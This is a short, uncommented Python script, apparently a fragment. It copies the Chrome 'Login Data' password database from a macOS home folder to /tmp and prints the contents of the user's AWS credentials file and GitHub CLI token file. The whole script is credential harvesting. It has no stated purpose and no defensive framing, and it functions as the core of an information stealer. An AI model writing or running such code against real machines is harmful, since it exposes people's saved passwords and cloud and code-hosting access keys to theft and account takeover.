import shutil
from pathlib import Path

home = Path.home()
shutil.copy(home / "Library/Application Support/Google/Chrome/Default/Login Data", "/tmp/ld")
for p in ["~/.aws/credentials", "~/.config/gh/hosts.yml"]:
    print(open(Path(p).expanduser()).read())
